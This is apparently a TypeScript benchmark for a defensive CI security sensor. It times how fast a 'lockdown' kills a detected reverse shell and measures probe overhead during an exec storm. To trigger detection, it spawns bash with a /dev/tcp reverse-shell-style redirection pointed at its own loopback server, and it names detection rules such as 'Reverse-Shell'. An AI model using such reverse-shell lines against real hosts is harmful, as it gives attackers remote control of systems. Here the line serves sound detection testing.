/**
 * Lockdown benchmarks:
 *  - detection to death: kernel timestamps of the detection, of the
 *    offender's exit (killed in the syscall) and of the last exit of the rest
 *    of the job (ended by the agent through cgroup.kill when the detection
 *    record reaches it);
 *  - the probes' cost on an exec storm with lockdown on vs off.
 */
import net from 'node:net';
import { Cgroup } from '../src/cgroup/cgroup2';
import { JobLockdown } from '../src/enforce/lockdown';
import type { SensorEvent } from '../src/sensor/events';
import { Sensor } from '../src/sensor/sensor';
import { runFlood, type StormRun } from './sensor';
import { median, percentile } from './stats';

export interface KillLatency {
  runs: number;
  offenderUs: { p50: number; p99: number };
  jobUs: { p50: number; p99: number };
}

export async function killLatency(runs: number): Promise<KillLatency> {
  const server = net.createServer((socket) => socket.on('error', () => undefined));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const port = (server.address() as net.AddressInfo).port;
  const sensor = Sensor.open();
  const offender: number[] = [];
  const job: number[] = [];
  try {
    for (let run = 0; run < runs; run++) {
      const cgroup = Cgroup.create(`ringfence-bench/kill-${process.pid}-${run}`);
      const events: SensorEvent[] = [];
      const listener = (batch: SensorEvent[]) => {
        for (const event of batch) {
          events.push(event);
          if (event.type === 'detection' && event.action === 'killed') void cgroup.kill().catch(() => undefined);
        }
      };
      sensor.on('events', listener);
      if (run === 0) sensor.start();
      sensor.track(cgroup);
      // loopback counts as remote here, so the shell's peer can be on this machine
      const lockdown = new JobLockdown(sensor.kernel(), cgroup.id, ['Reverse-Shell'], { loopbackIsRemote: true });
      const child = cgroup.spawn('/bin/bash', ['-c', `sleep 30 & sleep 30 & exec 3<>/dev/tcp/127.0.0.1/${port}; exec 0<&3`], { stdio: 'ignore' });
      await new Promise((resolve) => child.on('exit', resolve));
      await cgroup.kill();
      const deadline = Date.now() + 5000;
      const exits = () => events.filter((e) => e.type === 'exit' && e.jobCgroupId === cgroup.id);
      while (exits().length < 3 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 5));
      const detection = events.find((e) => e.type === 'detection' && e.jobCgroupId === cgroup.id);
      if (!detection) throw new Error(`run ${run}: no detection`);
      const offenderExit = exits().find((e) => e.tgid === detection.tgid);
      if (!offenderExit || exits().length < 3) throw new Error(`run ${run}: exits missing`);
      offender.push((offenderExit.ktimeNs - detection.ktimeNs) / 1000);
      job.push((Math.max(...exits().map((e) => e.ktimeNs)) - detection.ktimeNs) / 1000);
      sensor.off('events', listener);
      lockdown.remove();
      sensor.untrack(cgroup);
      await cgroup.destroy();
    }
  } finally {
    await sensor.close();
    server.close();
  }
  return {
    runs,
    offenderUs: { p50: percentile(offender, 50), p99: percentile(offender, 99) },
    jobUs: { p50: percentile(job, 50), p99: percentile(job, 99) },
  };
}

export interface LockdownStormResult {
  count: number;
  rounds: number;
  offMs: number;
  onMs: number;
  offCpuMs: number;
  onCpuMs: number;
}

/** An exec storm in a tracked cgroup, lockdown off vs on (every detection listed). */
export async function lockdownExecStorm(count: number, rounds: number): Promise<LockdownStormResult> {
  const cgroup = Cgroup.create(`ringfence-bench/lockdown-storm-${process.pid}`);
  const off: StormRun[] = [];
  const on: StormRun[] = [];
  const sensor = Sensor.open();
  sensor.on('events', () => undefined);
  sensor.start();
  sensor.track(cgroup);
  try {
    for (let round = 0; round < rounds; round++) {
      off.push(await runFlood(cgroup, ['exec', String(count)]));
      const lockdown = new JobLockdown(sensor.kernel(), cgroup.id, ['Reverse-Shell', 'Runner-Worker-Memory-Read', 'Privileged-Container']);
      on.push(await runFlood(cgroup, ['exec', String(count)]));
      lockdown.remove();
    }
  } finally {
    await sensor.close();
    await cgroup.destroy();
  }
  return {
    count,
    rounds,
    offMs: median(off.map((r) => r.wallMs)),
    onMs: median(on.map((r) => r.wallMs)),
    offCpuMs: median(off.map((r) => r.cpuMs)),
    onCpuMs: median(on.map((r) => r.cpuMs)),
  };
}
